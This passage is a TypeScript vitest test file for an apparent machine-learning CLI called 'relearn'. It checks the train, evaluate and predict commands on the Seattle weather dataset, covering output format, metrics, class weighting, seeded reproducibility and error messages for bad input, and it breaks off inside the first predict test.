import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type * as Tf from '@tensorflow/tfjs';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { nodeMl } from '../../../src/cli/tfNode.ts';
import { readCsv } from '../../../src/core/csv/readCsv.ts';
import type { ModelCard } from '../../../src/core/training/modelCard.ts';
import { transform } from '../../../src/core/training/preprocess.ts';
import { buildTable } from '../../../src/core/training/table.ts';
import { runMain } from '../helpers/cliOutput.ts';
import { BAD_FIXTURES, csvFixture, repoRoot } from '../helpers/fixtures.ts';

const SEATTLE = path.join(repoRoot, 'node_modules', 'vega-datasets', 'data', 'seattle-weather.csv');
const SEATTLE_ROWS = 1461;
const CLASSES = ['drizzle', 'fog', 'rain', 'snow', 'sun'];
/** "date" differs in every row: left out, as a person would. */
const WEATHER = ['--data', SEATTLE, '--target', 'weather', '--features', 'precipitation,temp_max,temp_min,wind'];
const TEMP_MAX = ['--data', SEATTLE, '--target', 'temp_max', '--features', 'precipitation,temp_min,wind,weather'];
const FAST = ['--epochs', '4'];

const root = mkdtempSync(path.join(tmpdir(), 'relearn-train-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let fresh = 0;
/** A path under the test's folder that does not exist yet. */
const newPath = (name: string): string => path.join(root, `${name}-${++fresh}`);

function writeCsv(name: string, text: string): string {
  const file = newPath(name);
  writeFileSync(file, text);
  return file;
}

const rows = (header: string, n: number, make: (i: number) => string): string => `${header}\n${Array.from({ length: n }, (_, i) => make(i)).join('\n')}\n`;
const escapeRegex = (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

/** Seattle weather with the given columns and rows changed (cells by header name). */
function seattleWith(change: (cells: Record<string, string>, i: number) => Record<string, string> | null, columns?: string[]): string {
  const [header, ...lines] = readFileSync(SEATTLE, 'utf8').trimEnd().split('\n');
  const names = header!.split(',');
  const keep = columns ?? names;
  const out = lines.flatMap((line, i) => {
    const cells = Object.fromEntries(line.split(',').map((v, j) => [names[j]!, v]));
    const changed = change(cells, i);
    return changed ? [keep.map((n) => changed[n] ?? '').join(',')] : [];
  });
  return writeCsv('seattle.csv', `${keep.join(',')}\n${out.join('\n')}\n`);
}

async function train(args: string[]): Promise<{ code: number; stdout: string; stderr: string; out: string }> {
  const out = newPath('model');
  return { ...(await runMain(['train', ...args, '--out', out])), out };
}

/** Parses a predictions file (CRLF, quoted where needed). */
function readPredictions(file: string): { header: string[]; rows: string[][] } {
  const parsed = Papa.parse<string[]>(readFileSync(file, 'utf8').trimEnd(), { skipEmptyLines: false });
  const [header, ...body] = parsed.data;
  return { header: header!, rows: body };
}

/** Loads a model directory the way any tfjs user would: model.json, then the files its weightsManifest names. */
async function loadModelDir(tf: typeof Tf, dir: string): Promise<{ model: Tf.LayersModel; card: ModelCard }> {
  const json = JSON.parse(readFileSync(path.join(dir, 'model.json'), 'utf8')) as {
    modelTopology: object;
    format: string;
    weightsManifest: { paths: string[]; weights: Tf.io.WeightsManifestEntry[] }[];
    userDefinedMetadata: { relearn: ModelCard };
  };
  const handler: Tf.io.IOHandler = {
    load: async () => {
      const shards = json.weightsManifest.flatMap((group) => group.paths.map((p) => readFileSync(path.join(dir, p))));
      const bytes = Buffer.concat(shards);
      return {
        modelTopology: json.modelTopology,
        format: json.format,
        weightSpecs: json.weightsManifest.flatMap((group) => group.weights),
        weightData: bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.byteLength),
        userDefinedMetadata: json.userDefinedMetadata,
      };
    },
  };
  const model = await tf.loadLayersModel(handler);
  return { model, card: json.userDefinedMetadata.relearn };
}

let weatherModel = '';
let weatherJson: Record<string, unknown> = {};
let tempModel = '';
let tempJson: Record<string, unknown> = {};

beforeAll(async () => {
  const weather = await train([...WEATHER, ...FAST, '--json']);
  expect(weather.code, weather.stderr).toBe(0);
  weatherModel = weather.out;
  weatherJson = JSON.parse(weather.stdout);
  const temp = await train([...TEMP_MAX, ...FAST, '--json']);
  expect(temp.code, temp.stderr).toBe(0);
  tempModel = temp.out;
  tempJson = JSON.parse(temp.stdout);
}, 120_000);

describe('relearn train', () => {
  it('--json: task, model, backend, rows, counts, holdout metrics, class weights, imbalance, time; nothing else on stdout', async () => {
    const { code, stdout, stderr } = await train([...WEATHER, ...FAST, '--json']);
    expect(code).toBe(0);
    const json = JSON.parse(stdout);
    expect(stdout).toBe(`${JSON.stringify(json, null, 2)}\n`);
    expect(Object.keys(json)).toEqual(['task', 'model', 'backend', 'rows', 'counts', 'metrics', 'classWeight', 'classWeights', 'imbalance', 'trainMs']);
    expect(json).toMatchObject({ task: 'multiclass', model: 'mlp', backend: 'wasm', rows: SEATTLE_ROWS, counts: { train: 1023, validation: 146, holdout: 292, missingTarget: 0 } });
    expect(Object.keys(json.metrics)).toEqual(['accuracy', 'precisionMacro', 'recallMacro', 'f1Macro', 'precisionWeighted', 'recallWeighted', 'f1Weighted', 'rocAucOvrMacro', 'logLoss', 'confusionMatrix']);
    expect(json.metrics.confusionMatrix.flat().reduce((a: number, b: number) => a + b, 0)).toBe(292);
    expect(json.metrics.accuracy).toBeGreaterThan(0.5);
    expect(Number.isInteger(json.trainMs) && json.trainMs > 0).toBe(true);
    expect(json).toMatchObject({ classWeight: 'none', classWeights: null });
    // After 4 epochs drizzle and fog are never predicted: the imbalance warning names them, in the JSON and on stderr.
    expect(json.imbalance.lowRecall.map((c: { label: string }) => c.label)).toEqual(expect.arrayContaining(['drizzle', 'fog']));
    expect(json.imbalance.rows).toBe(292);
    expect(stderr).toContain(`warning: class imbalance: ${json.imbalance.message}\n`);
    // Only warnings (classes never predicted after 4 epochs, named by label) reach stderr under --json.
    for (const line of stderr.split('\n').filter(Boolean)) expect(line).toMatch(/^warning: (holdout metrics: class "(drizzle|fog|rain|snow|sun)"|class imbalance: )/);
  });

  it('a regression: metrics rmse, mae, r2 on the target\'s own scale', () => {
    expect(Object.keys(tempJson)).toEqual(['task', 'model', 'backend', 'rows', 'counts', 'metrics', 'classWeight', 'classWeights', 'imbalance', 'trainMs']);
    expect(tempJson).toMatchObject({ task: 'regression', model: 'mlp', backend: 'wasm', rows: SEATTLE_ROWS });
    const metrics = tempJson.metrics as { rmse: number; mae: number; r2: number };
    expect(Object.keys(metrics)).toEqual(['rmse', 'mae', 'r2']);
    expect(metrics.rmse).toBeGreaterThan(0);
    expect(metrics.rmse).toBeLessThan(8);
    expect(metrics.r2).toBeGreaterThan(0);
  });

  it('writes exactly model.json and weights.bin, the card inside model.json', () => {
    expect(readdirSync(weatherModel).sort()).toEqual(['model.json', 'weights.bin']);
    const json = JSON.parse(readFileSync(path.join(weatherModel, 'model.json'), 'utf8'));
    expect(json.format).toBe('layers-model');
    expect(json.weightsManifest[0].paths).toEqual(['weights.bin']);
    const card = json.userDefinedMetadata.relearn as ModelCard;
    expect(card).toMatchObject({ task: 'multiclass', target: 'weather', classes: CLASSES, seed: 42, params: { family: 'mlp', epochs: 4 } });
    expect(card.preprocessing.features.map((f) => [f.name, f.kind])).toEqual([
      ['precipitation', 'numeric'],
      ['temp_max', 'numeric'],
      ['temp_min', 'numeric'],
      ['wind', 'numeric'],
    ]);
    // No hidden work directory is left beside it.
    expect(readdirSync(root).filter((n) => n.startsWith('.'))).toEqual([]);
  });

  it('the summary: task and why, rows, dropped rows, epochs and stop reason, metrics, time; progress on stderr', async () => {
    const { code, stdout, stderr, out } = await train([...WEATHER, '--epochs', '20', '--model', 'linear']);
    expect(code).toBe(0);
    const lines = stdout.split('\n');
    expect(lines[0]).toBe(`trained: linear 5-class classifier on "weather" from ${SEATTLE}`);
    expect(stdout).toMatch(/^task: multiclass \("weather" is categorical → classification\)$/m);
    expect(stdout).toMatch(/^classes: drizzle, fog, rain, snow, sun$/m);
    expect(stdout).toMatch(/^features: 4 \(precipitation, temp_max, temp_min, wind\) → 4 inputs$/m);
    expect(stdout).toMatch(/^rows: 1461 labelled — 1023 train, 146 validation, 292 holdout \(seed 42\)$/m);
    expect(stdout).toMatch(/^dropped: none \(every row has a value in "weather"\)$/m);
    expect(stdout).toMatch(/^epochs: \d+ of 20, (ran every epoch|stopped early: the validation loss had not improved); best epoch \d+ \(validation loss \d\.\d{4}\)$/m);
    expect(stdout).toMatch(/^time: \d.* on the wasm backend \([\d,]+ samples\/s\)$/m);
    expect(stdout).toMatch(/^holdout metrics:\n {2}accuracy +0\.\d+$/m);
    expect(stdout).toMatch(/^ {4}actual \\ predicted +drizzle +fog +rain +snow +sun$/m);
    expect(stdout).toMatch(new RegExp(`^saved: ${escapeRegex(out)}/model.json and weights.bin \\([\\d,]+ bytes\\)$`, 'm'));
    expect(stdout).not.toMatch(/NaN|Infinity/);
    expect(stdout).not.toMatch(/^class weights:/m);
    expect(stderr).toMatch(/^epoch {2}1\/20: loss \d+\.\d{4}, validation loss \d+\.\d{4} \(\d+ ms\)$/m);
    expect(stderr.split('\n').filter((l) => l.startsWith('epoch')).length).toBeLessThanOrEqual(11);
  });

  it('--class-weight balanced: scikit-learn\'s weights over the training rows, in the card, the summary and --json; the rare classes are found', async () => {
    const plain = await train([...WEATHER, '--json']);
    const weighted = await train([...WEATHER, '--class-weight', 'balanced', '--json']);
    expect(weighted.code, weighted.stderr).toBe(0);
    const [a, b] = [JSON.parse(plain.stdout), JSON.parse(weighted.stdout)];
    expect(b.classWeight).toBe('balanced');
    expect(Object.keys(b.classWeights)).toEqual(CLASSES);
    // n / (k · count): the rarest class (snow) weighs most, the commonest (sun, rain) least; the weighted counts sum to n.
    const weights = b.classWeights as Record<string, number>;
    expect(weights.snow).toBeGreaterThan(weights.drizzle!);
    expect(weights.drizzle).toBeGreaterThan(weights.fog!);
    expect(weights.fog).toBeGreaterThan(weights.rain!);
    const card = JSON.parse(readFileSync(path.join(weighted.out, 'model.json'), 'utf8')).userDefinedMetadata.relearn as ModelCard;
    expect(card.params.classWeight).toBe('balanced');
    expect(card.classWeights).toEqual(CLASSES.map((c) => weights[c]));
    const counts = CLASSES.map((c) => Math.round(b.counts.train / (CLASSES.length * weights[c]!)));
    expect(counts.reduce((x, y) => x + y, 0)).toBe(b.counts.train);
    // Unweighted, the default MLP never predicts drizzle or fog (warned); weighted, their recall rises.
    expect(a.imbalance.lowRecall.map((c: { label: string }) => c.label)).toEqual(expect.arrayContaining(['drizzle', 'fog']));
    const recall = (m: { metrics: { confusionMatrix: number[][] } }, k: number): number => m.metrics.confusionMatrix[k]![k]! / m.metrics.confusionMatrix[k]!.reduce((x, y) => x + y, 0);
    expect(recall(b, 0) + recall(b, 1)).toBeGreaterThan(recall(a, 0) + recall(a, 1) + 0.2);
    const text = await train([...WEATHER, '--class-weight', 'balanced', ...FAST]);
    expect(text.stdout).toMatch(/^class weights: balanced \(drizzle \d+\.\d+, fog \d+\.\d+, rain 0\.\d+, snow \d+\.\d+, sun 0\.\d+\)$/m);
  }, 60_000);

  it('the class-imbalance warning is the summary\'s last lines, naming the classes and the numbers', async () => {
    const { code, stdout } = await train([...WEATHER, ...FAST]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^warning: class imbalance: (predicts "\w+" for \d+\.\d% of holdout rows \("\w+" is \d+\.\d% of them\); )?recall of "drizzle" is 0\.\d{2,3}, of "fog" is 0\.\d{2,3}/m);
  });

  it('rows with a missing target are dropped and counted', async () => {
    const file = seattleWith((cells, i) => (i % 10 === 0 ? { ...cells, weather: '' } : cells));
    const json = await train(['--data', file, '--target', 'weather', '--features', 'precipitation,temp_max,temp_min,wind', ...FAST, '--json']);
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout)).toMatchObject({ rows: SEATTLE_ROWS - 147, counts: { missingTarget: 147 } });
    const text = await train(['--data', file, '--target', 'weather', '--features', 'precipitation,temp_max,temp_min,wind', ...FAST]);
    expect(text.stdout).toMatch(/^rows: 1314 labelled — /m);
    expect(text.stdout).toMatch(/^dropped: 147 rows with no value in "weather"$/m);
  });

  it('every other column is a feature by default; a semicolon file with a byte-order mark trains too', async () => {
    const { code, stdout } = await train(['--data', csvFixture('ok_bom_semicolon.csv'), '--target', 'label', '--task', 'classification', ...FAST]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^task: binary \(classification, as chosen\)$/m);
    expect(stdout).toMatch(/^features: 2 \(x, cat\) → \d+ inputs$/m);
  });

  it('the same seed gives the same model, byte for byte; another seed another one', async () => {
    const a = await train([...WEATHER, ...FAST, '--seed', '7', '--json']);
    const b = await train([...WEATHER, ...FAST, '--seed', '7', '--json']);
    const c = await train([...WEATHER, ...FAST, '--seed', '8', '--json']);
    for (const r of [a, b, c]) expect(r.code).toBe(0);
    const bytes = (dir: string, name: string): Buffer => readFileSync(path.join(dir, name));
    expect(bytes(a.out, 'weights.bin').equals(bytes(b.out, 'weights.bin'))).toBe(true);
    expect(bytes(a.out, 'model.json').equals(bytes(b.out, 'model.json'))).toBe(true);
    expect(JSON.parse(a.stdout).metrics).toEqual(JSON.parse(b.stdout).metrics);
    expect(bytes(a.out, 'weights.bin').equals(bytes(c.out, 'weights.bin'))).toBe(false);
  });

  it('--out: replaces a model relearn wrote; refuses a directory with other files, or a file', async () => {
    const dir = newPath('models');
    expect((await runMain(['train', ...WEATHER, ...FAST, '--out', dir])).code).toBe(0);
    const second = await runMain(['train', ...TEMP_MAX, ...FAST, '--out', dir]);
    expect(second.code).toBe(0);
    expect(second.stdout).toMatch(/, replacing the model that was there\)$/m);
    expect(JSON.parse(readFileSync(path.join(dir, 'model.json'), 'utf8')).userDefinedMetadata.relearn.target).toBe('temp_max');
    expect(readdirSync(path.dirname(dir)).filter((n) => n.startsWith('.'))).toEqual([]);

    const busy = newPath('busy');
    mkdirSync(busy);
    writeFileSync(path.join(busy, 'notes.txt'), 'mine');
    const refused = await runMain(['train', ...WEATHER, ...FAST, '--out', busy]);
    expect(refused).toEqual({ code: 1, stdout: '', stderr: `error: ${busy}: is not empty and holds no Relearn model (notes.txt); give --out a new or empty directory, or one that relearn train wrote, to replace that model\n` });
    expect(readdirSync(busy)).toEqual(['notes.txt']);

    const empty = newPath('empty');
    mkdirSync(empty);
    expect((await runMain(['train', ...WEATHER, ...FAST, '--out', empty])).code).toBe(0);
    expect(readdirSync(empty).sort()).toEqual(['model.json', 'weights.bin']);

    const file = writeCsv('not-a-dir', 'x');
    expect((await runMain(['train', ...WEATHER, ...FAST, '--out', file])).stderr).toBe(`error: ${file}: exists and is not a directory; --out takes a directory to write model.json and weights.bin into\n`);

    const nested = path.join(newPath('parent'), 'a', 'b');
    expect((await runMain(['train', ...WEATHER, ...FAST, '--out', nested])).code).toBe(0);
    expect(existsSync(path.join(nested, 'weights.bin'))).toBe(true);
  });
});

describe('relearn train on bad input: exit 1, one line naming the file', () => {
  const expectError = async (args: string[], file: string, message: string | RegExp): Promise<void> => {
    const out = newPath('refused');
    const { code, stdout, stderr } = await runMain(['train', ...args, '--out', out]);
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr.split('\n').filter(Boolean)).toHaveLength(1);
    if (typeof message === 'string') expect(stderr).toBe(`error: ${file}: ${message}\n`);
    else expect(stderr).toMatch(new RegExp(`^error: ${escapeRegex(file)}: ${message.source}`));
    expect(existsSync(out)).toBe(false);
  };

  it('balanced class weights on a numeric target (inferred a regression)', async () => {
    await expectError([...TEMP_MAX, '--class-weight', 'balanced'], SEATTLE, '"temp_max" is a regression target; class weights apply to classification only: set them to none to train a regression');
  });

  it('an unknown --target or --features column', async () => {
    await expectError(['--data', SEATTLE, '--target', 'nope'], SEATTLE, 'no column "nope" for --target; the columns are date, precipitation, temp_max, temp_min, wind, weather');
    await expectError(['--data', SEATTLE, '--target', 'weather', '--features', 'wind,gusts'], SEATTLE, 'no column "gusts" for --features; the columns are date, precipitation, temp_max, temp_min, wind, weather');
  });

  it('a constant target', async () => {
    const file = writeCsv('constant.csv', rows('x,y', 40, (i) => `${i * 0.5},a`));
    await expectError(['--data', file, '--target', 'y'], file, 'target "y" is "a" in every row: a constant target leaves nothing to learn. Pick another target, or add batches where it varies');
  });

  it('a target with no values at all', async () => {
    const file = writeCsv('empty-target.csv', rows('x,y', 40, (i) => `${i * 0.5},`));
    await expectError(['--data', file, '--target', 'y'], file, /target "y" has no values/);
  });

  it('too few rows in a class', async () => {
    const file = writeCsv('few.csv', rows('x,y', 40, (i) => `${i * 0.5},${i < 3 ? 'b' : 'a'}`));
    await expectError(['--data', file, '--target', 'y'], file, 'too few rows per class in target "y": "b" (3); each class needs at least 5. Add batches with more of them, or drop those rows');
  });

  it('a text target for a regression', async () => {
    await expectError([...WEATHER, '--task', 'regression'], SEATTLE, 'target "weather" is not numeric (values like "drizzle"); regression needs a numeric target. Choose classification, or another target');
  });

  it('an id-like target, numeric or text', async () => {
    const ids = writeCsv('ids.csv', rows('x,id', 40, (i) => `${(i * 7) % 11},${i + 1}`));
    await expectError(['--data', ids, '--target', 'id'], ids, /target "id" counts 1, 2, 3, … with a different value in every row, like an id: there is nothing to learn/);
    const names = writeCsv('names.csv', rows('x,name', 40, (i) => `${(i * 7) % 11},user${i}`));
    await expectError(['--data', names, '--target', 'name'], names, /target "name" has a different value in every row, like an id/);
  });

  it('too many classes, too few rows', async () => {
    await expectError(['--data', SEATTLE, '--target', 'date'], SEATTLE, /target "date" has 1461 classes; classification takes at most 50/);
    const small = writeCsv('small.csv', rows('x,y', 16, (i) => `${i},${i % 2 ? 'a' : 'b'}`));
    await expectError(['--data', small, '--target', 'y'], small, /only \d+ rows are left for training \(at least 20 needed\)/);
  });

  it('a target too large for double precision', async () => {
    const file = writeCsv('huge.csv', rows('x,y', 60, (i) => `${(i * 7) % 13},${(i % 2 ? 1 : -1) * (1 + (i % 7) / 10)}e308`));
    await expectError(['--data', file, '--target', 'y', '--task', 'regression'], file, /target "y" has values too large to train on \(their spread overflows\); rescale it/);
  });

  it('a target whose spread overflows', async () => {
    const file = writeCsv('big.csv', rows('x,y', 60, (i) => `${(i * 7) % 13},${1 + (i % 9) / 10}e200`));
    await expectError(['--data', file, '--target', 'y', ...FAST, '--json'], file, /target "y" has values too large to train on \(their spread overflows\); rescale it, for example to thousands or millions\n$/);
  });

  it.each(BAD_FIXTURES)('%s as --data', async (name) => {
    const file = csvFixture(name);
    const { code, stdout, stderr } = await runMain(['train', '--data', file, '--target', 'label', '--out', newPath('refused')]);
    expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
    expect(stderr.trimEnd().split('\n')).toHaveLength(1);
    expect(stderr).toMatch(new RegExp(`^error: ${escapeRegex(file)}(:\\d+)?: \\S`));
  });

  it('a missing file', async () => {
    const missing = path.join(root, 'no-such.csv');
    await expectError(['--data', missing, '--target', 'y'], missing, 'no such file');
  });
});

describe('relearn train usage errors exit 2', () => {
  const base = ['--data', SEATTLE, '--target', 'weather', '--out', path.join(root, 'never')];
  it.each([
    [['--data', SEATTLE, '--target', 'weather'], 'error: train needs --out DIR'],
    [['--target', 'weather', '--out', 'x'], 'error: train needs --data FILE'],
    [['--data', SEATTLE, '--out', 'x'], 'error: train needs --target COLUMN'],
    [[...base, '--model', 'svm'], 'error: --model takes linear, mlp, gbdt or forest, not "svm"'],
    [[...base, '--model', 'gbdt', '--max-leaf-nodes', '1'], 'error: leaves per tree must be a whole number from 2 to 4096'],
    [[...base, '--model', 'gbdt', '--max-leaf-nodes', '8.5'], 'error: --max-leaf-nodes takes a whole number, not "8.5"'],
    [[...base, '--model', 'gbdt', '--learning-rate', '2'], 'error: the learning rate must be above 0 and at most 1'],
    [[...base, '--model', 'forest', '--max-features', 'half'], 'error: --max-features takes a finite number, not "half"'],
    [[...base, '--model', 'forest', '--max-features', '1.5'], 'error: features per split must be sqrt, log2, a share above 0 and at most 1, or the default, not "1.5"'],
    [[...base, '--model', 'forest', '--max-depth', '0'], 'error: the maximum depth must be a whole number from 1 to 1000, or no limit'],
    [[...base, '--model', 'forest', '--min-samples-leaf', '0'], 'error: rows per leaf must be a whole number, 1 or more'],
    [[...base, '--model', 'forest', '--max-bins', '300'], 'error: bins per feature must be a whole number from 2 to 255'],
    [[...base, '--model', 'forest', '--max-leaf-nodes', '8'], 'error: --max-leaf-nodes applies to --model gbdt, not forest'],
    [[...base, '--model', 'forest', '--learning-rate', '0.1'], 'error: --learning-rate applies to --model linear, mlp or gbdt, not forest'],
    [[...base, '--max-depth', '3'], 'error: --max-depth applies to --model gbdt or forest, not mlp'],
    [[...base, '--task', 'ranking'], 'error: --task takes classification or regression, not "ranking"'],
    [[...base, '--epochs', '0'], 'error: epochs must be a whole number from 1 to 10000'],
    [[...base, '--epochs', '2.5'], 'error: --epochs takes a whole number, not "2.5"'],
    [[...base, '--seed=-1'], 'error: the seed must be a whole number from 0 to 2147483647'],
    [[...base, '--seed', 'abc'], 'error: --seed takes a whole number, not "abc"'],
    [[...base, '--features', 'wind,,temp_max'], 'error: --features takes column names separated by commas, not "wind,,temp_max"'],
    [[...base, '--features', 'wind,wind'], 'error: --features names "wind" more than once'],
    [[...base, '--features', 'wind,weather'], 'error: the target "weather" cannot also be a feature'],
    [[...base, '--class-weight', 'heavy'], 'error: --class-weight takes none or balanced, not "heavy"'],
    [[...base, '--task', 'regression', '--class-weight', 'balanced'], 'error: class weights apply to classification only: set them to none to train a regression'],
    [[...base, '--bogus'], "error: Unknown option '--bogus'"],
  ])('%j', async (args, first) => {
    const { code, stdout, stderr } = await runMain(['train', ...args]);
    expect({ code, stdout }).toEqual({ code: 2, stdout: '' });
    expect(stderr.split('\n')[0]).toBe(first);
    expect(stderr).toMatch(/usage: relearn <command>/);
  });

  it('the usage documents train, evaluate and predict', async () => {
    const { stdout } = await runMain(['--help']);
    expect(stdout).toMatch(/^ {2}train --data FILE --target COLUMN --out DIR \[options\]$/m);
    expect(stdout).toMatch(/^ {2}evaluate --model DIR --data FILE \[--json\]$/m);
    expect(stdout).toMatch(/^ {2}predict --model DIR --data FILE --out FILE \[--json\]$/m);
    for (const option of ['--model M', '--max-leaf-nodes N', '--min-samples-leaf N', '--max-depth N|none', '--max-features F', '--learning-rate R', '--task T', '--features a,b,c', '--epochs N', '--seed N']) expect(stdout).toContain(`  ${option} `);
  });
});

describe('relearn evaluate', () => {
  it('--json on the training file: {"rows","metrics","trainedOnRows","imbalance"}, every row flattered, said on stderr', async () => {
    const { code, stdout, stderr } = await runMain(['evaluate', '--model', weatherModel, '--data', SEATTLE, '--json']);
    expect(code).toBe(0);
    const json = JSON.parse(stdout);
    expect(stdout).toBe(`${JSON.stringify(json, null, 2)}\n`);
    expect(Object.keys(json)).toEqual(['rows', 'metrics', 'trainedOnRows', 'imbalance']);
    expect(json.rows).toBe(SEATTLE_ROWS);
    // The classes this model never finds, read off its confusion matrix, are the warning's, also said on stderr.
    const confusion = json.metrics.confusionMatrix as number[][];
    const missed = confusion.filter((row, i) => row[i]! / row.reduce((a, b) => a + b, 0) < 0.1).length;
    expect(missed).toBeGreaterThan(0);
    expect(json.imbalance.lowRecall).toHaveLength(missed);
    expect(stderr).toContain(`warning: class imbalance: ${json.imbalance.message}\n`);
    // The file is the one it trained on (same sha256): every scored row was in its training data.
    expect(json.trainedOnRows).toBe(SEATTLE_ROWS);
    expect(stderr).toContain(`warning: ${SEATTLE_ROWS} of ${SEATTLE_ROWS} rows were in the model's training data (${SEATTLE} is one of the files it trained on, by sha256): its metrics there are flattered\n`);
    expect(Object.keys(json.metrics)).toEqual(Object.keys(weatherJson.metrics as object));
    expect(json.metrics.confusionMatrix.flat().reduce((a: number, b: number) => a + b, 0)).toBe(SEATTLE_ROWS);
    expect(json.metrics.accuracy).toBeGreaterThan(0.5);
  });

  it('a regression model; the table names every metric', async () => {
    const json = JSON.parse((await runMain(['evaluate', '--model', tempModel, '--data', SEATTLE, '--json'])).stdout);
    expect(json.rows).toBe(SEATTLE_ROWS);
    expect(Object.keys(json.metrics)).toEqual(['rmse', 'mae', 'r2']);
    expect(json.imbalance).toBeNull();
    const { code, stdout } = await runMain(['evaluate', '--model', tempModel, '--data', SEATTLE]);
    expect(code).toBe(0);
    expect(stdout.split('\n').slice(0, 4)).toEqual([`model: ${tempModel} (regression on "temp_max", mlp)`, `data: ${SEATTLE} (1461 rows, 1461 rows scored)`, 'trained-on rows: 1461 of the 1461 scored', 'metrics:']);
    expect(stdout).toMatch(/^ {2}rmse +\d/m);
    expect(stdout).toMatch(/^ {2}r2 +/m);
  });

  it('scores only rows with a target, says how many were left out and why', async () => {
    const file = seattleWith((cells, i) => (i % 100 === 0 ? { ...cells, weather: '' } : i % 100 === 1 ? { ...cells, weather: 'hail' } : cells));
    const { code, stdout, stderr } = await runMain(['evaluate', '--model', weatherModel, '--data', file, '--json']);
    expect(code).toBe(0);
    expect(JSON.parse(stdout).rows).toBe(SEATTLE_ROWS - 30);
    // Another file (other bytes, another sha256): none of its rows counts as trained on.
    expect(JSON.parse(stdout).trainedOnRows).toBe(0);
    expect(stderr).toContain(`warning: 15 rows of ${file} have no value in "weather" and were not scored\n`);
    expect(stderr).toContain(`warning: 15 rows of ${file} have a class the model never saw ("hail") and were not scored\n`);
  });

  it('a numeric feature with text cells: counted as missing, with a warning', async () => {
    const file = seattleWith((cells, i) => (i < 3 ? { ...cells, wind: 'calm' } : cells));
    const { code, stderr } = await runMain(['evaluate', '--model', weatherModel, '--data', file, '--json']);
    expect(code).toBe(0);
    expect(stderr).toContain(`warning: column "wind" of ${file}: 3 cells are not a number, unlike the model's numeric column, and counted as missing (unfit)\n`);
  });

  it('a missing feature or target column: exit 1 naming them', async () => {
    const noWind = seattleWith((cells) => cells, ['date', 'precipitation', 'temp_max', 'temp_min', 'weather']);
    expect(await runMain(['evaluate', '--model', weatherModel, '--data', noWind])).toEqual({
      code: 1,
      stdout: '',
      stderr: `error: ${noWind}: lacks the feature column "wind", which the model needs\n`,
    });
    const noTarget = seattleWith((cells) => cells, ['precipitation', 'temp_max', 'temp_min', 'wind']);
    expect((await runMain(['evaluate', '--model', weatherModel, '--data', noTarget])).stderr).toBe(`error: ${noTarget}: lacks the target column "weather", which the predictions are scored against\n`);
    const neither = seattleWith((cells) => cells, ['date', 'temp_max']);
    expect((await runMain(['evaluate', '--model', weatherModel, '--data', neither])).stderr).toBe(
      `error: ${neither}: lacks the feature columns "precipitation", "temp_min", "wind", which the model needs, and the target column "weather", which the predictions are scored against\n`,
    );
  });

  it('no row with a known target: exit 1', async () => {
    const file = seattleWith((cells) => ({ ...cells, weather: '' }));
    expect((await runMain(['evaluate', '--model', weatherModel, '--data', file])).stderr).toBe(`error: ${file}: no row has a value in "weather" that the model can be scored against\n`);
  });

  it('a --model that is not a model directory: exit 1', async () => {
    const missing = path.join(root, 'no-such-model');
    expect((await runMain(['evaluate', '--model', missing, '--data', SEATTLE])).stderr).toBe(`error: ${missing}: no such directory\n`);
    const empty = newPath('empty-model');
    mkdirSync(empty);
    expect((await runMain(['evaluate', '--model', empty, '--data', SEATTLE])).stderr).toBe(`error: ${empty}: has no model.json: not a model directory (relearn train --out DIR writes one)\n`);
    const notJson = newPath('bad-model');
    mkdirSync(notJson);
    writeFileSync(path.join(notJson, 'model.json'), '{"modelTopology":');
    expect((await runMain(['evaluate', '--model', notJson, '--data', SEATTLE])).stderr).toMatch(new RegExp(`^error: ${escapeRegex(notJson)}/model.json: is not JSON \\(.*\\): not a model saved by relearn train\\n$`));
    const foreign = newPath('foreign-model');
    mkdirSync(foreign);
    const json = JSON.parse(readFileSync(path.join(weatherModel, 'model.json'), 'utf8'));
    delete json.userDefinedMetadata;
    writeFileSync(path.join(foreign, 'model.json'), JSON.stringify(json));
    writeFileSync(path.join(foreign, 'weights.bin'), readFileSync(path.join(weatherModel, 'weights.bin')));
    expect((await runMain(['evaluate', '--model', foreign, '--data', SEATTLE])).stderr).toBe(
      `error: ${foreign}/model.json: this model.json has no Relearn model card (userDefinedMetadata.relearn): it was not saved by Relearn\n`,
    );
    const noWeights = newPath('no-weights');
    mkdirSync(noWeights);
    writeFileSync(path.join(noWeights, 'model.json'), readFileSync(path.join(weatherModel, 'model.json')));
    expect((await runMain(['evaluate', '--model', noWeights, '--data', SEATTLE])).stderr).toBe(`error: ${noWeights}/weights.bin: no such file or directory; model.json names it in its weightsManifest\n`);
    const short = newPath('short-weights');
    mkdirSync(short);
    writeFileSync(path.join(short, 'model.json'), readFileSync(path.join(weatherModel, 'model.json')));
    writeFileSync(path.join(short, 'weights.bin'), readFileSync(path.join(weatherModel, 'weights.bin')).subarray(0, 100));
    expect((await runMain(['evaluate', '--model', short, '--data', SEATTLE])).stderr).toMatch(/^error: .*\/model.json: weights.bin has 100 bytes; model.json describes \d+ bytes\n$/);
  });

  it('--model may name the model.json itself', async () => {
    const { code, stdout } = await runMain(['evaluate', '--model', path.join(weatherModel, 'model.json'), '--data', SEATTLE, '--json']);
    expect(code).toBe(0);
    expect(JSON.parse(stdout).rows).toBe(SEATTLE_ROWS);
  });

  it('usage errors exit 2', async () => {
    for (const [args, first] of [
      [['--data', SEATTLE], 'error: evaluate needs --model DIR'],
      [['--model', weatherModel], 'error: evaluate needs --data FILE'],
      [['--model', weatherModel, '--data', SEATTLE, '--out', 'x.csv'], 'error: evaluate writes no file: --out belongs to predict'],
    ] as const) {
      const { code, stderr } = await runMain(['evaluate', ...args]);
      expect(code).toBe(2);
      expect(stderr.split('\n')[0]).toBe(first);
    }
  });
});

describe('relearn predict', () => {
  it('writes the input columns, prediction and probability_<class>; tf.loadLayersModel on model.json gives the same numbers', async () => {
    const out = newPath('predictions.csv');
    const { code, stdout, stderr } = await runMain(['predict', '--model', weatherModel, '--data', SEATTLE, '--out', out]);
